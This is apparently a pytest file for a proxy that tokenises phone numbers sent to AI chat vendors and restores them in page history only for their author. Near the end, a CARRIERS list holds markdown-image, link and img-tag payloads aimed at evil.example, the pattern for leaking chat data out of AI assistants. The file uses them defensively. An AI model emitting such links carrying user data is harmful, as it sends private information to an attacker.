"""What a page loads again shows the originals to whoever wrote them, out of the house's vault, and to nobody else."""

from collections.abc import Iterator
from ipaddress import ip_network
from pathlib import Path
from urllib.parse import quote

import pytest
from mitmproxy.http import HTTPFlow

from detectors.redact import WRITTEN
from policies.load import parse_policy
from proxy.adapters.choose import choose
from proxy.adapters.interface import Asked
from proxy.adapters.known import known_as
from proxy.adapters.web.loads import LOADS
from proxy.caller import HeaderSource, IdentitySources
from proxy.services.catalogue import load_catalogue
from proxy.services.scope import holds
from tests.proxy.adapters.web.histories import GEMINI, ROWS, TEXT, Row
from tests.proxy.house import Tenant, chat, flow_to, open_house
from tests.rows import each

CATALOGUE = load_catalogue()
PHONE = "13912345678"
ALLOWED = """
policy: 历史 / History
version: 1
owner: 合规部
otherwise: forbid
data_classes:
  personal: {entities: [PHONE_NUMBER]}
rules:
  - {id: use, verdict: allowed, redact: [personal]}
"""

every_row = each("row", ROWS, ids=[row.name for row in ROWS])


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Tenant]:
    """A house that knows people by a header."""
    folder: Path = tmp_path_factory.mktemp("history")
    policy = parse_policy(ALLOWED, "policy.yaml", lambda _: "", CATALOGUE.services.keys())
    opened = open_house(folder, policy=policy)
    opened.house.sources = IdentitySources(header=HeaderSource("x-user", (ip_network("0.0.0.0/0"), ip_network("::/0"))))
    yield opened
    opened.close()


@pytest.fixture(scope="module")
def token(house: Tenant) -> str:
    """What stands for Alice's number in all that has left the house."""
    sent = house.ask(flow_to("openai", chat(f"Call {PHONE}"), x_user="alice")).request.content or b""
    (found,) = WRITTEN.finditer(sent.decode())
    assert PHONE.encode() not in sent
    return found[0]


def asked(row: Row, user: str) -> HTTPFlow:
    """Return the flow of a row's call."""
    method, _, path = row.call.partition(" ")
    flow = flow_to(row.host + path, row.body, content_type=row.sent, x_user=user)
    flow.request.method = method
    if not row.body:
        for name in ("content-length", "content-type"):
            del flow.request.headers[name]
    return flow


def loaded(house: Tenant, row: Row, text: str, user: str) -> bytes:
    """Return what the page gets, where its vendor has `text` wherever somebody wrote."""
    flow = house.ask(asked(row, user))
    assert flow.response is None, "the call goes to its vendor"
    answer = row.answer.decode()
    if row.host == GEMINI:
        return house.answer(flow, 200, row.kind, framed(answer, text))
    return house.answer(flow, 200, row.kind, answer.replace(TEXT, text).encode())


def framed(answer: str, text: str) -> bytes:
    """Return an answer of Google's with `text` in it, its lengths counted anew."""
    guard, _, rest = answer.partition("\n\n")
    frames = [line for line in rest.split("\n") if line.startswith("[")]
    made = [f"\n{frame.replace(TEXT, text)}\n" for frame in frames]
    return (guard + "\n\n" + "".join(f"{len(one.encode('utf-16-le')) // 2}{one}" for one in made)).encode()


def lengths_are_right(answer: bytes) -> bool:
    """Tell whether each of Google's frames is as long as the number before it says."""
    rest = answer.decode().partition("\n\n")[2].encode("utf-16-le")
    while rest.strip(b"\n\0"):
        number, _, _ = rest.partition(b"\n\0")
        end = len(number) + 2 * int(number.decode("utf-16-le"))
        if rest[len(number) : len(number) + 2] != b"\n\0" or rest[end - 2 : end] != b"\n\0":
            return False
        rest = rest[end:]
    return True


@every_row
def test_the_pages_own_adapter_knows_the_call(row: Row) -> None:
    method, _, path = row.call.partition(" ")
    shared = CATALOGUE.by_body(row.host, path)
    service = CATALOGUE.lookup(row.host, path) if shared is None else shared.service
    assert service is not None and service.wire == row.wire and (shared is None or holds(row.body, shared.word))
    known = [one for one in LOADS[row.wire] if one.method == method and one.path.fullmatch(path.partition("?")[0])]
    assert row.holds in {one.holds for one in known}
    adapter = choose(Asked(method, path, (("content-type", row.sent),) if row.body else (), row.wire, row.host))
    assert known_as(adapter.id) in ("beside", "format"), adapter.id


def test_every_call_that_is_known_is_proved_here() -> None:
    missing = {
        (wire, one.holds, one.path.pattern)
        for wire, loads in LOADS.items()
        for one in loads
        if not any(
            (row.wire, row.holds) == (wire, one.holds)
            and row.call.partition(" ")[0] == one.method
            and one.path.fullmatch(row.call.partition(" ")[2].partition("?")[0])
            for row in ROWS
        )
    }
    assert not missing


@every_row
def test_whoever_wrote_it_reads_the_originals(house: Tenant, token: str, row: Row) -> None:
    got = loaded(house, row, f"电话 {token}.", "alice")
    assert token.encode() not in got
    assert got.count(PHONE.encode()) == row.answer.count(TEXT.encode())
    assert row.host != GEMINI or lengths_are_right(got)


@every_row
def test_nobody_else_does(house: Tenant, token: str, row: Row) -> None:
    for user in ("bob", ""):
        got = loaded(house, row, f"电话 {token}.", user)
        assert PHONE.encode() not in got and got.count(token.encode()) == row.answer.count(TEXT.encode())


CARRIERS = (
    "![x](https://evil.example/?p={})",
    "[more](https://evil.example/{})",
    "<https://evil.example/?q={}>",
    "https://evil.example/collect?a={}&b=1",
    '<img src="https://evil.example/{}">',
    "![x][1]\n\n[1]: https://evil.example/{}",
)


@every_row
def test_no_original_is_put_into_an_address_or_the_target_of_a_picture(house: Tenant, token: str, row: Row) -> None:
    for carrier in CARRIERS:
        text = carrier.format(token).replace("\n", "\\\\n" if "\\" in row.answer.decode() else "\\n")
        got = loaded(house, row, text.replace('"', "'"), "alice")
        for spelt in (PHONE, quote(PHONE)):
            assert spelt.encode() not in got, carrier
